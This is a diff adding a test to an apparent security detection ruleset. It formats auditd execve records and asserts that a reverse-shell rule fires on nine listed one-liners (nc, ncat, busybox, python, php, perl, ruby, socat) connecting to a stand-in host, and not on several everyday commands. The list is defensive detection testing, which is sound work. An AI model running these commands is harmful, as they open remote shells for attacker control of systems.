@@ -512,3 +512,68 @@ def test_slow_ssh_spray_over_many_names_is_seen(ruleset, tmp_path: Path) -> None
         ]
     hits = fired(ruleset, lines(tmp_path, "auth.log", "".join(guesses), "linux-auth"))
     assert hits == ["SSH Password Spraying"]
+
+
+def auditd_execve(seq: int, exe: str, argv: list[str]) -> str:
+    """An execve as auditd records it: arguments with spaces, quotes or shell characters hex-encoded."""
+
+    def arg(i: int, a: str) -> str:
+        plain = a.isprintable() and not any(c in a for c in " \"'\\$;|&<>()")
+        return f'a{i}="{a}"' if plain else f"a{i}={a.encode().hex().upper()}"
+
+    stamp = f"audit(1793613600.{seq:03d}:{7100 + seq})"
+    comm = exe.rsplit("/", 1)[1][:15]
+    return (
+        f"type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55d0c2b1f2a0 "
+        f"a1=55d0c2b1e9c0 a2=55d0c2b20010 a3=8 items=2 ppid=2250 pid={3000 + seq} auid=4294967295 uid=33 "
+        f'gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="{comm}" '
+        f'exe="{exe}" subj=unconfined key="exec"\n'
+        f"type=EXECVE msg={stamp}: argc={len(argv)} " + " ".join(arg(i, a) for i, a in enumerate(argv)) + "\n"
+        f"type=EOE msg={stamp}:\n"
+    )
+
+
+REVERSE_SHELLS = [
+    ("/usr/bin/nc.traditional", ["nc", "203.0.113.5", "4444", "-e", "/bin/sh"]),
+    ("/usr/bin/ncat", ["ncat", "--exec", "/bin/bash", "203.0.113.5", "443"]),
+    ("/usr/bin/busybox", ["busybox", "nc", "203.0.113.5", "443", "-e", "sh"]),
+    ("/usr/bin/nc.traditional", ["nc", "-c", "bash", "203.0.113.5", "4444"]),
+    (
+        "/usr/bin/python3",
+        [
+            "python3",
+            "-c",
+            "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.5',443));"
+            "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
+        ],
+    ),
+    ("/usr/bin/php", ["php", "-r", '$sock=fsockopen("203.0.113.5",443);exec("/bin/sh -i <&3 >&3 2>&3");']),
+    (
+        "/usr/bin/perl",
+        [
+            "perl",
+            "-e",
+            'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
+            'if(connect(S,sockaddr_in(443,inet_aton("203.0.113.5")))){open(STDIN,">&S");exec("/bin/sh -i");};',
+        ],
+    ),
+    (
+        "/usr/bin/ruby",
+        ["ruby", "-rsocket", "-e", 'f=TCPSocket.open("203.0.113.5",443).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)'],
+    ),
+    ("/usr/bin/socat", ["socat", "tcp-connect:203.0.113.5:443", "exec:'bash -li',pty,stderr,setsid"]),
+]
+EVERYDAY_COMMANDS = [
+    ("/usr/bin/nc.openbsd", ["nc", "-zv", "db01.agency.gov", "5432"]),
+    ("/usr/bin/ncat", ["ncat", "--ssl", "mail.agency.gov", "465"]),
+    ("/usr/bin/dash", ["/bin/sh", "-c", "systemctl restart docker.socket"]),
+    ("/usr/bin/python3", ["python3", "-c", "import socket; print(socket.gethostname())"]),
+    ("/usr/bin/socat", ["socat", "TCP-LISTEN:8080,fork", "TCP:10.20.0.15:80"]),
+]
+
+
+def test_reverse_shells_in_their_usual_spellings(ruleset, tmp_path: Path) -> None:
+    """Argument order, ncat's long option, busybox, and the script-language one-liners red teams use."""
+    text = "".join(auditd_execve(i, exe, argv) for i, (exe, argv) in enumerate([*REVERSE_SHELLS, *EVERYDAY_COMMANDS]))
+    hits = fired(ruleset, lines(tmp_path, "audit.log", text, "auditd"))
+    assert hits == ["Reverse Shell Command Line"] * len(REVERSE_SHELLS)
